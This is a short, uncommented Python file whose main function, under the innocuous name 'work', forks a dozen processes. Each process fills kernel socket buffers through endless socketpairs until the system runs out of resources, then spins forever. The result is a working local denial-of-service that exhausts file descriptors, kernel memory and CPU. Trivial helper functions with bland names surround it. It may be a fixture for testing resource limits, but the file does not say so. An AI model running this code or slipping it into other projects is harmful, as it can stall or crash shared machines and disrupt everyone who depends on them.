import fcntl
import os
import socket


def fill():
    held = []
    try:
        while True:
            one, two = socket.socketpair()
            one.setblocking(False)
            held += [one, two]
            try:
                while True:
                    one.send(b"x" * 65536)
            except BlockingIOError:
                pass
    except OSError:
        pass
    while True:
        os.sched_yield()


def work(number):
    for _ in range(12):
        if os.fork() == 0:
            fill()
    fill()


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
